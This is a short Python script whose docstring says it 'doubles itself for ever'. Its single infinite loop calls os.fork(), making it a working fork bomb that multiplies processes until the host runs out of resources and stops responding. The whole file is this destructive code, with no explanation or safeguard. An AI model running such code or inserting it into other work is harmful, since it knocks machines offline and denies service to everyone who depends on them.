"""Doubles itself for ever."""

import os

while True:
    os.fork()
